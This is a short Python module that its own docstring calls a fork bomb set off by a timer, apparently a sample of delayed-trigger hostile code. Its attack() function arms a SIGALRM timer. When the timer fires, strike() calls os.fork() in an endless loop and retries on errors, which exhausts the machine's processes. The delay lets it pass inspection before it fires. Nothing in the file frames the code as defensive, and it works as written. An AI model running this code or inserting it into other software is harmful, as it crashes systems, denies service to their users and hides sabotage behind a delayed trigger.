"""Behaves until it was listed, and strikes later: a fork bomb that a timer sets off."""

import os
import signal
import time

AT = "call"


def strike(*_):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def attack():
    signal.signal(signal.SIGALRM, strike)
    signal.setitimer(signal.ITIMER_REAL, 0.05)
    time.sleep(300)
